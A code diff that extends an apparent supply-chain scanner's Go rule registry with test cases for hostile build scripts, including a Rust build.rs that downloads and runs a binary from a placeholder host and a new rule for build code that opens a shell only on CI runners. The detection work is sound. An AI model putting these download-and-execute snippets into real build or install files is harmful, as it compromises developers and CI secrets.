@@ -219,6 +219,10 @@ var registry = []Rule{
 		// at every R start in its directory.
 		{"R/zzz.R", ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".R\")\n  download.file(\"https://x.invalid/a.R\", f, quiet = TRUE)\n  source(f)\n}", 4, false},
 		{".Rprofile", "local({\n  f <- tempfile()\n  download.file(\"https://x.invalid/a.sh\", f)\n  system(paste(\"sh\", f), wait = FALSE)\n})", 4, false},
+		// Rust's Command builder over several lines: a shell handed a
+		// script with -c runs the script, on the script's own line.
+		{"build.rs", "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"curl -s -o /tmp/t.bin https://x.invalid/t && chmod +x /tmp/t.bin && /tmp/t.bin &\")\n        .status();\n}", 5, false},
+		{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"git\")\n        .args([\"describe\", \"--tags\", \"--always\"])\n        .current_dir(env!(\"CARGO_MANIFEST_DIR\"))\n        .output();\n}", 0, true},
 		{"R/data.R", "f <- tempfile(fileext = \".csv\")\ndownload.file(\"https://x.invalid/d.csv\", f)\nd <- read.csv(f)\nsource(\"R/helpers.R\")", 0, true},
 		// R's source() of a URL fetches the file and runs it.
 		{".Rprofile", "options(repos = c(CRAN = \"https://cloud.r-project.org\"))\ntry(source(\"https://x.invalid/init.R\"), silent = TRUE)", 2, false},
@@ -847,6 +851,15 @@ var registry = []Rule{
 			{"internal/x/daemon.go", "package x\nimport (\n\t\"os/exec\"\n\t\"syscall\"\n)\nfunc Daemonize(p string) error {\n\tcmd := exec.Command(p)\n\tcmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}\n\treturn cmd.Start()\n}", 0, true},
 			{"index.js", "const { spawn } = require('child_process')\nfunction checkLater() {\n  spawn(process.execPath, [check], { detached: true, stdio: 'ignore' }).unref()\n}\nmodule.exports = { checkLater }", 0, true},
 			{"pkg/__init__.py", "import subprocess\ntry:\n    __version__ = subprocess.check_output(['git', 'describe']).decode()\nexcept Exception:\n    __version__ = '0'", 3, true},
+		}},
+	{"ci-only-build-code", KindBuildFile, High, "build code fetches or starts a shell only when it runs on CI",
+		"build code that behaves one way on CI and another on a developer's machine hides what it does from whoever builds it locally; here the CI-only branch reaches the network or a shell, with the runner's token and secrets (as the rustdecimal crate checked GITLAB_CI)", []Case{
+			{"build.rs", "use std::process::Command;\nfn main() {\n    if std::env::var(\"GITHUB_ACTIONS\").is_ok() {\n        let _ = Command::new(\"sh\").arg(\"-c\").arg(script()).status();\n    }\n}", 4, false},
+			{"setup.py", "import os, subprocess\nif os.environ.get('GITLAB_CI'):\n    subprocess.run(['sh', '-c', os.environ.get('HOOK', '')])", 3, false},
+			// CI's own settings (a flag, a quieter build), or a branch that
+			// runs the compiler.
+			{"build.rs", "fn main() {\n    if std::env::var(\"CI\").is_ok() {\n        println!(\"cargo:rustc-cfg=ci\");\n    }\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status();\n}", 0, true},
+			{"setup.py", "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.check_call(['cmake', '--build', 'build'])", 0, true},
 		}},
 	{"install-hook-release", KindScript, High, "a release adds an install hook that runs a file the change does not show",
 		"the version bump publishes it: every machine that installs that release runs the hook before any test, and its code is not in this diff (how install-time worms republish themselves)", []Case{
